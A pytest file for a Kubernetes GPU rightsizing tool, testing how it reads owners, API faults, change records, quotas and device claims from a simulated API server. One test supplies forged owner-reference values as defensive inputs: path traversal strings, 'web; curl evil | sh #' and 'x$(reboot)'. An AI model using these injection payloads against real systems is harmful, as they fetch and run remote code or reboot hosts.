"""Requests to the API server, and what happens without permissions or resources."""

import datetime
import json
import pathlib
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
import yaml

from rightsizer.changes.record_codec import MANIFEST_TYPE, came_back_after
from rightsizer.config import LONGEST, PREFIX, ClusterSettings
from rightsizer.errors import ConfigurationError, RequestRefused
from rightsizer.execute.preflight import read_workload
from rightsizer.inventory.cluster_reader import read_cluster
from rightsizer.inventory.workload_builder import build_fleet
from rightsizer.kinds import RECORDABLE_KINDS
from rightsizer.kube.cluster import Cluster
from rightsizer.kube.object_names import INVALID_OWNER
from rightsizer.model import Fleet
from simulator.kube import ApiServer, Fault
from tests.rightsizer.kubectl import (
    GPU,
    TEAM,
    Object,
    claim,
    device_class,
    dra_gpu,
    node,
    obj,
    pod,
    resource_slice,
    using,
)
from tests.rightsizer.world import DEFAULT_POLICY, World

OTHER = "other-team"
STATE = "gpu-rightsizer"


class Server:
    """A simulated API server, and our one door to it."""

    def __init__(self, api: ApiServer, directory: pathlib.Path) -> None:
        self.api = api
        self._path = directory / "kubeconfig"
        self._path.write_text(yaml.safe_dump(api.kubeconfig()))
        self.cluster = self.connect()

    def connect(self, *gpu_resources: str) -> Cluster:
        """Another connection."""
        return Cluster(ClusterSettings(kubeconfig=self._path, gpu_resources=gpu_resources))

    def add(self, *objects: Object) -> None:
        """Create objects, owners first; what a controller or the scheduler would have to do is given."""
        for one in objects:
            given: Object = json.loads(json.dumps(one))
            for reference in given["metadata"].get("ownerReferences", ()):
                reference["uid"] = self._uid(reference["kind"], reference["name"])
            given["metadata"].pop("uid", None)
            given["metadata"].pop("resourceVersion", None)
            made = self.api.create(given)
            if "status" in given and given["kind"] != "Node":
                status = {"status": given["status"]}
                name = made["metadata"]["name"]
                self.api.patch(
                    given["kind"], made["metadata"].get("namespace"), name, status, subresource="status"
                )

    def fleet(self, **how: Any) -> Fleet:
        """The fleet as it is read now."""
        return build_fleet(read_cluster(self.cluster, RECORDABLE_KINDS, **how))

    def asked(self) -> list[str]:
        """Paths of the requests since the last time that this was asked."""
        paths = [entry.path for entry in self.api.requests.all()]
        self.api.requests.clear()
        return paths

    def _uid(self, kind: str, name: str) -> str:
        found = self.api.get(kind, TEAM, name)
        return str(found["metadata"]["uid"]) if found else "gone"


@pytest.fixture
def server(tmp_path: pathlib.Path) -> Iterator[Server]:
    """An API server with a node and two namespaces."""
    with ApiServer() as api:
        found = Server(api, tmp_path)
        for name in (TEAM, OTHER, STATE):
            api.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})
        found.add(node("n1", gpus=64))
        yield found


JOBSET = obj("JobSet", "train", api_version="jobset.x-k8s.io/v1alpha2", spec={"suspend": False})


def _jobset() -> list[Object]:
    jobs = [
        obj("PyTorchJob", f"train-{number}", JOBSET, api_version="kubeflow.org/v1") for number in range(2)
    ]
    pods = [pod(f"train-{number}-{each}", job) for number, job in enumerate(jobs) for each in range(3)]
    return [JOBSET, *jobs, *pods]


def test_third_party_owners_are_found_by_discovery(server: Server) -> None:
    """With size and version of the top."""
    server.add(*_jobset())
    (found,) = server.fleet().workloads
    assert (found.ref.full_kind, found.ref.name, found.gpus) == ("JobSet.jobset.x-k8s.io", "train", 6)
    assert (found.size, bool(found.resource_version)) == (False, True)


def _own(server: Server, name: str, namespace: str, reference: Object) -> None:
    """A GPU pod of a tenant that names an owner."""
    made = pod(name, namespace=namespace, ownerReferences=[{**reference, "controller": True}])
    made["metadata"].pop("uid")
    made["metadata"].pop("resourceVersion")
    server.api.create(made)


def _victim(server: Server, *, pods: int = 1) -> Object:
    """A JobSet of another team, as an owner reference names it."""
    top = obj("JobSet", "web", api_version="jobset.x-k8s.io/v1alpha2", spec={"suspend": False})
    server.add(top, *(pod(f"web-{number}", top) for number in range(pods)))
    uid = (server.api.get("JobSet", TEAM, "web") or {})["metadata"]["uid"]
    return {"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "name": "web", "uid": uid}


@pytest.mark.parametrize(
    "lie",
    [
        {"name": f"../../{TEAM}/jobsets/web"},
        {"name": f"..%2F..%2F{TEAM}%2Fjobsets%2Fweb"},
        {"name": "web; curl evil | sh #"},
        {"name": ".."},
        {"kind": "JobSet/../.."},
        {"apiVersion": "jobset.x-k8s.io/../v1alpha2"},
        {"uid": "x$(reboot)"},
    ],
    ids=str,
)
def test_owner_with_an_impossible_name_is_never_asked_for(server: Server, lie: Object) -> None:
    """Its pods are a workload of an unknown owner, in their own namespace."""
    victim = _victim(server)
    _own(server, "forger", OTHER, {**victim, **lie})
    found = {one.ref.namespace: one for one in server.fleet().workloads}
    assert (found[OTHER].ref.kind, found[OTHER].resource_version) == (INVALID_OWNER, "")
    assert [one.ref.name for one in found[TEAM].pods] == ["web-0"]
    assert not [path for path in server.asked() if ".." in path or "%" in path or ";" in path]


@pytest.mark.parametrize("pods", [1, 5], ids=["one-by-one", "listed"])
@pytest.mark.parametrize("name", ["web", "mine"])
def test_owner_with_the_uid_of_another_namespace_is_not_found(server: Server, pods: int, name: str) -> None:
    """No pod joins a workload of another namespace, and none hides its owner."""
    victim = _victim(server, pods=pods)
    for number in range(pods):
        _own(server, f"forger-{number}", OTHER, {**victim, "name": name if number else "web"})
    found = {(one.ref.namespace, one.ref.name): one for one in server.fleet().workloads}
    assert (len(found[TEAM, "web"].pods), bool(found[TEAM, "web"].resource_version)) == (pods, True)
    assert {one.resource_version for key, one in found.items() if key[0] == OTHER} == {""}


@pytest.mark.parametrize("kind", ["Job", "Unknown"])
def test_owner_with_a_uid_of_another_kind_hides_no_owner(server: Server, kind: str) -> None:
    """Also if its pods are read first."""
    victim = _victim(server)
    _own(server, "forger", OTHER, {**victim, "kind": kind})
    found = {one.ref.namespace: one for one in server.fleet().workloads}
    assert (found[TEAM].ref.kind, bool(found[TEAM].resource_version)) == ("JobSet", True)
    assert (found[OTHER].ref.kind, found[OTHER].resource_version) == (kind, "")


def test_owner_with_a_name_of_another_uid_is_unread(server: Server) -> None:
    """The object of that name is another one."""
    victim = _victim(server)
    _own(server, "forger", TEAM, {**victim, "uid": "another"})
    found = {one.pods[0].ref.name: one.resource_version for one in server.fleet().workloads}
    assert (found["forger"], bool(found["web-0"])) == ("", True)


def test_pod_group_waits_by_the_templates_of_its_owner_only(server: Server) -> None:
    """What a newer object of its owner's name would create says nothing."""
    spec = {"pytorchReplicaSpecs": {"Master": {"replicas": 1, "template": _template()}}}
    owner = obj("PyTorchJob", "train", api_version="kubeflow.org/v1", spec=spec)
    api_version = "scheduling.volcano.sh/v1beta1"
    server.add(owner, obj("PodGroup", "g", owner, api_version=api_version, spec={"minMember": 1}))
    assert [one.ref.kind for one in server.fleet().waiting] == ["PodGroup"]
    server.api.inject(Fault("/pytorchjobs/train$", "GET", 1, status=200, body=owner))
    fleet = server.fleet()
    assert [one.why for one in fleet.unserved] == ["what pods its owner would create is unknown"]
    assert fleet.waiting == ()


@pytest.mark.parametrize(
    ("owners", "groups", "requests"),
    [
        pytest.param(2, 1, 4, id="a-few"),
        pytest.param(2, 5, 4, id="a-few-of-many-groups"),
        pytest.param(30, 1, 0, id="many"),
    ],
)
def test_owners_of_pod_groups_are_read_once_and_many_are_listed(
    server: Server, owners: int, groups: int, requests: int
) -> None:
    """Not one by one for each PodGroup: two requests for an owner, for its templates and as an owner of others."""
    spec = {"pytorchReplicaSpecs": {"Master": {"replicas": 1, "template": _template()}}}
    api_version = "scheduling.volcano.sh/v1beta1"
    for number in range(owners):
        owner = obj("PyTorchJob", f"train-{number}", api_version="kubeflow.org/v1", spec=spec)
        names = [f"g-{number}-{each}" for each in range(groups)]
        server.add(owner, *(obj("PodGroup", name, owner, api_version=api_version) for name in names))
    server.api.settle()  # the owners' pods are there
    fleet = server.fleet()
    assert (len(fleet.waiting), fleet.unserved) == (owners * groups, ())
    assert len([path for path in server.asked() if "/pytorchjobs/" in path]) == requests


def test_reader_requests_only_needed_kinds(server: Server) -> None:
    """No kinds without pods, and no claims without use."""
    server.add(*_jobset())
    server.fleet()
    asked = {path.rsplit("/", 1)[-1] for path in server.asked()}
    assert {"pods", "jobsets", "train"} & asked
    assert not {"configurations", "revisions", "taskruns", "sparkapplications", "resourceclaims"} & asked
    server.add(claim("c", devices=1), pod("p", **using("c")))
    assert {one.ref.name for one in server.fleet().workloads} == {"train", "p"}
    assert "resourceclaims" in {path.rsplit("/", 1)[-1] for path in server.asked()}


def test_api_groups_are_read_once(server: Server) -> None:
    """For many readings of one run."""
    server.add(*_jobset())
    (found,) = server.fleet().workloads
    for _ in range(3):
        assert read_workload(found.ref, server.cluster) is not None
    assert server.asked().count("/apis") == 1


@pytest.mark.parametrize("status", [403, 404])
def test_forbidden_or_missing_api_is_noted_and_skipped(server: Server, status: int) -> None:
    """The rest is read; an unread owner is never changed."""
    server.add(*_jobset())
    server.api.inject(Fault("/jobset", "GET", None, status=status))
    server.api.inject(Fault("/scaledobjects", "GET", None, status=status))
    fleet = server.fleet()
    (found,) = fleet.workloads
    assert (found.ref.kind, found.ref.name, found.resource_version, found.gpus) == ("JobSet", "train", "", 6)
    named = [problem for problem in fleet.problems if f" is left out: {status} " in problem]
    assert [path in "".join(named) for path in ("/jobsets", "/scaledobjects")] == [status == 403, True]


def _groups(**versions: str) -> Object:
    """What /apis says."""
    groups = [
        {
            "name": group.replace("_", "."),
            "versions": [{"groupVersion": "", "version": one} for one in found.split()],
        }
        for group, found in {
            "apps": "v1",
            "batch": "v1",
            "policy": "v1",
            "autoscaling": "v2",
            **versions,
        }.items()
    ]
    return {"kind": "APIGroupList", "groups": groups}


def test_kind_served_in_an_older_version_is_read(server: Server) -> None:
    """The next version is tried."""
    head = obj("RayCluster", "r", api_version="ray.io/v1")
    server.add(head, *(pod(f"p{number}", head) for number in range(3)))
    old = server.api.get("RayCluster", TEAM, "r") or {}
    server.api.inject(Fault("^/apis$", "GET", 1, status=200, body=_groups(ray_io="v1 v1alpha1")))
    server.api.inject(Fault("/apis/ray.io/v1/", "GET", None, status=404))
    server.api.inject(Fault("/apis/ray.io/v1alpha1/", "GET", None, status=200, body=old))
    (found,) = server.fleet().workloads
    assert (found.ref.api_version, found.ref.name, found.gpus) == ("ray.io/v1alpha1", "r", 3)
    assert found.resource_version == old["metadata"]["resourceVersion"]


def test_reader_without_discovery_tries_the_best_versions(server: Server) -> None:
    """And reports it."""
    server.add(*_jobset())
    server.api.inject(Fault("^/apis$", "GET", None, status=403))
    fleet = server.fleet()
    assert [(one.ref.kind, bool(one.resource_version)) for one in fleet.workloads] == [("JobSet", True)]
    assert any(problem.startswith("/apis is left out: 403") for problem in fleet.problems)


def test_missing_built_in_api_ends_the_reading(server: Server) -> None:
    """There is no plan without built-in kinds."""
    deployment = {"replicas": 0, "selector": {"matchLabels": {"a": "b"}}, "template": _template()}
    server.add(obj("Deployment", "d", spec=deployment), pod("p", obj("Deployment", "d")))
    server.api.inject(Fault("/deployments", "GET", None, status=403))
    with pytest.raises(RequestRefused, match="403"):
        server.fleet()


def test_expired_pages_are_read_again_from_the_start(server: Server) -> None:
    """Nothing counts twice."""
    with server.api.batch():
        server.add(*(pod(f"p{number:04}", limits={GPU: "1", "cpu": "1"}) for number in range(600)))
    server.api.inject(Fault("/api/v1/pods", "GET", 1, delay_s=0.001))
    server.api.inject(Fault("/api/v1/pods", "GET", 1, status=410))
    objects = read_cluster(server.cluster, RECORDABLE_KINDS)
    assert len(objects.pods) == 600
    assert (objects.capacities["n1"].requested["cpu"], objects.capacities["n1"].requested[GPU]) == (
        600_000,
        600,
    )
    assert len(build_fleet(objects).workloads) == 600


def _template() -> Object:
    limits = {GPU: "1"}
    containers = [{"name": "main", "image": "x", "resources": {"limits": limits}}]
    return {"metadata": {"labels": {"a": "b"}}, "spec": {"containers": containers}}


def _stopped(name: str, kind: str, gpus: int, at: str) -> Object:
    record = {"version": 1, "run": f"run-{name}", "at": at, "action": "scale-to-zero", "gpus": gpus}
    spec: Object = {"selector": {"matchLabels": {"a": "b"}}, "template": _template()}
    if kind == "Job":
        spec = {"suspend": True, "template": _template()}
        spec["template"]["spec"]["restartPolicy"] = "Never"
    else:
        spec |= {"replicas": 0}
    return obj(kind, name, spec=spec, metadata={"annotations": {PREFIX + "undo": json.dumps(record)}})


def test_changes_are_known_from_changed_objects(server: Server) -> None:
    """Even without running pods."""
    at = "2026-11-20T10:00:00Z"
    server.add(_stopped("d", "Deployment", 8, at), _stopped("j", "Job", 2, "2026-11-20T09:00:00Z"))
    server.add({**_stopped("plain", "Deployment", 1, at), "metadata": {"name": "plain", "namespace": TEAM}})
    broken = _stopped("forged", "Deployment", 1, at)
    broken["metadata"]["annotations"][PREFIX + "undo"] = "{}"
    server.add(broken)
    fleet = server.fleet()
    assert fleet.workloads == ()
    assert [(one.ref.kind, one.ref.name, one.record.gpus, one.record.run) for one in fleet.changes] == [
        ("Job", "j", 2, "run-j"),
        ("Deployment", "d", 8, "run-d"),
    ]
    assert fleet.changes[1].at == datetime.datetime(2026, 11, 20, 10, tzinfo=datetime.UTC)
    assert any("Deployment/forged: its annotation" in problem for problem in fleet.problems)


HOUR = datetime.timedelta(hours=1)
CREATED = datetime.datetime(2026, 11, 21, 10, tzinfo=datetime.UTC)
RECORD = json.dumps(
    {"version": 1, "at": "2026-11-20T10:00:00Z", "run": "r", "action": "scale-to-zero", "idleSeconds": 7200}
)


@pytest.mark.parametrize(
    ("annotations", "hours"),
    [
        pytest.param({}, None, id="nothing-noted"),
        pytest.param({"came-back-after": "31h10m"}, 31 + 1 / 6, id="noted-by-undo"),
        pytest.param({"came-back-after": "for ever"}, LONGEST / HOUR, id="unreadable-is-the-longest"),
        pytest.param({"undo": RECORD}, 26, id="scaled-up-by-hand"),
        pytest.param({"undo": RECORD, "came-back-after": "30h"}, 30, id="the-longer-of-both"),
        pytest.param({"undo": "junk"}, None, id="no-record"),
        pytest.param({"undo": RECORD.replace("2026-11-20", "2026-11-22")}, None, id="pods-not-gone-yet"),
        pytest.param({"undo": RECORD.replace("7200", "1" + "0" * 17)}, None, id="forged"),
        pytest.param({"undo": RECORD.replace("00Z", "00")}, None, id="without-a-zone"),
    ],
)
def test_idle_period_before_a_revert_is_known(annotations: dict[str, str], hours: float | None) -> None:
    """From undo's annotation, or from the record of a stop and later pods."""
    noted = {PREFIX + name: text for name, text in annotations.items()}
    found = came_back_after(noted, [CREATED + HOUR, None, CREATED])
    assert found == (None if hours is None else hours * HOUR)


@pytest.mark.prometheus
def test_changes_of_apply_are_known_afterwards(world: World) -> None:
    """With time and number of GPUs."""
    world.add("Deployment", world.team, "idle", {"replicas": 2, "gpus": 4})
    world.add("Pod", world.team, "shell", {})
    before = datetime.datetime.now(datetime.UTC) - datetime.timedelta(seconds=1)
    run = world.run("apply", "--yes", "-o", "json", policy=DEFAULT_POLICY)
    assert {name: item["result"] for name, item in run.items.items()} == {"idle": "done", "shell": "done"}
    cluster = Cluster(ClusterSettings(kubeconfig=world.directory / "kubeconfig"))
    changes = build_fleet(read_cluster(cluster, RECORDABLE_KINDS, state_namespace=STATE)).changes
    name = json.loads(run.out)["metadata"]["run"]
    assert {
        (one.ref.namespace, one.ref.kind, one.ref.name, one.record.gpus, one.record.run) for one in changes
    } == {
        (world.team, "Deployment", "idle", 8, name),
        (world.team, "Pod", "shell", 1, name),
    }
    assert changes[0].at >= before.replace(microsecond=0)


def test_evictions_are_known_from_secrets_of_manifests(server: Server) -> None:
    """By metadata alone, and only of the type that manifests have."""
    metadata = {
        "name": "shell-1",
        "namespace": STATE,
        "labels": {PREFIX + "manifest": "run-1"},
        "annotations": {PREFIX + "pod": f"{TEAM}/shell", PREFIX + "gpus": "4"},
    }
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "data": {}}
    server.add({**secret, "type": MANIFEST_TYPE})
    server.add({**secret, "metadata": {**metadata, "name": "another"}})
    assert server.fleet().changes == ()
    (found,) = server.fleet(state_namespace=STATE).changes
    assert (found.ref.namespace, found.ref.name, found.record.gpus, found.record.run) == (
        TEAM,
        "shell",
        4,
        "run-1",
    )
    server.api.inject(Fault("/secrets", "GET", 1, status=403))
    fleet = server.fleet(state_namespace=STATE)
    assert fleet.changes == ()
    assert any("secrets is left out: 403" in problem for problem in fleet.problems)


def test_priority_classes_and_gpu_quotas_are_read(server: Server) -> None:
    """With values and annotations; of quotas also those of pods, CPU and memory, which limit templates."""
    annotations = {PREFIX + "mode": "enforce"}
    meta = {"name": "low", "annotations": annotations}
    server.add({"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass", "metadata": meta, "value": 7})
    hard = {"requests.nvidia.com/gpu": "4", "pods": "10", "count/services": "5"}
    server.add(obj("ResourceQuota", "q", api_version="v1", spec={"hard": hard}), pod("p", limits={GPU: "3"}))
    server.api.settle()
    fleet = server.fleet()
    assert (fleet.classes["low"].value, fleet.classes["low"].annotations) == (7, annotations)
    quotas = [(one.namespace, one.name, one.resource, one.hard, one.used) for one in fleet.quotas]
    assert quotas == [(TEAM, "q", "pods", 10, 1), (TEAM, "q", GPU, 4, 3)]


def _everything() -> list[Object]:
    """One of each way in which pods come to be a workload."""
    gang = {"labels": {"scheduling.x-k8s.io/pod-group": "g"}}
    target = {"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "name": "train"}
    return [
        *_jobset(),
        pod("bare", labels={"app": "bare"}),
        pod("g0", labels=dict(gang["labels"])),
        pod("g1", labels=dict(gang["labels"])),
        claim("shared", devices=1, users=["a", "b"]),
        pod("claims", **using("shared")),
        obj("ScaledObject", "s", api_version="keda.sh/v1alpha1", spec={"scaleTargetRef": target}),
        obj(
            "PodDisruptionBudget",
            "guard",
            api_version="policy/v1",
            spec={"minAvailable": 1, "selector": {"matchLabels": {"app": "bare"}}},
        ),
    ]


def test_reading_one_namespace_gives_the_same_workload(server: Server) -> None:
    """Field for field."""
    server.add(*_everything())
    server.api.settle()
    fleet = server.fleet()
    assert [one.ref.name for one in fleet.workloads] == ["train", "g", "bare", "claims"]
    assert [[manager.kind for manager in one.managers] for one in fleet.workloads] == [["KEDA"], [], [], []]
    for planned in fleet.workloads:
        assert read_workload(planned.ref, server.cluster)[0] == planned


def test_reading_one_namespace_requests_nothing_else(server: Server) -> None:
    """Few nodes are read one by one."""
    server.add(*_everything())
    (first, *_) = server.fleet().workloads
    server.asked()
    assert read_workload(first.ref, server.cluster)[0] is not None
    asked = server.asked()
    scope = f"/namespaces/{TEAM}"
    others = [path for path in asked if scope not in path]
    slices = "/apis/resource.k8s.io/v1/resourceslices"
    assert sorted(others) == ["/api/v1/nodes/n1", slices, "/apis/scheduling.k8s.io/v1/priorityclasses"]
    assert asked[-1].endswith("/poddisruptionbudgets")


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (["example.com/gpu"], {"example.com/gpu": 4}),
        (["example.com/*=shares"], {"example.com/gpu": 4}),
        ([], None),
    ],
)
def test_configured_gpu_resource_counts_as_gpu(
    server: Server, given: list[str], expected: Mapping[str, int] | None
) -> None:
    """In every reading of the connection."""
    server.add(pod("p", limits={"example.com/gpu": "4"}))
    cluster = server.connect(*given)
    workloads = build_fleet(read_cluster(cluster, RECORDABLE_KINDS)).workloads
    assert [one.pods[0].resources for one in workloads] == ([expected] if expected else [])
    if workloads:
        assert read_workload(workloads[0].ref, cluster)[0] == workloads[0]


@pytest.mark.parametrize(
    "text", ["", "=devices", "a b", "example.com/gpu=some", "example.com/gpu=", "x" * 400]
)
def test_invalid_gpu_resource_is_refused(server: Server, text: str) -> None:
    """The message says how to write it."""
    if text == "example.com/gpu=":
        assert read_cluster(server.connect(text), RECORDABLE_KINDS).pods == ()
        return
    with pytest.raises(
        ConfigurationError, match=r"^--gpu-resource: '.*(such as example.com/gpu|must be one of devices, )"
    ):
        read_cluster(server.connect(text), RECORDABLE_KINDS)


@pytest.mark.parametrize("expression", ['device.driver == "nic.example.com"', "device.nonsense()"])
def test_claim_of_another_driver_ends_no_plan(server: Server, expression: str) -> None:
    """Where GPUs are published by DRA and nothing waits; whoever claims a network card."""
    server.add(
        resource_slice("gpus", dra_gpu(0), dra_gpu(1)),
        resource_slice("nic", {"name": "nic-0"}, driver="nic.example.com"),
        device_class(),
        device_class("nic", expression),
        claim("h", devices=1),
        pod("p", **using("h")),
    )
    before = server.fleet()
    server.add(claim("c", devices=None, driver="nic"), claim("gone", devices=None, driver="no-class"))
    after = server.fleet()
    assert [one.gpus for one in after.workloads] == [1]
    assert (after.workloads, after.nodes, after.devices.held) == (
        before.workloads,
        before.nodes,
        before.devices.held,
    )
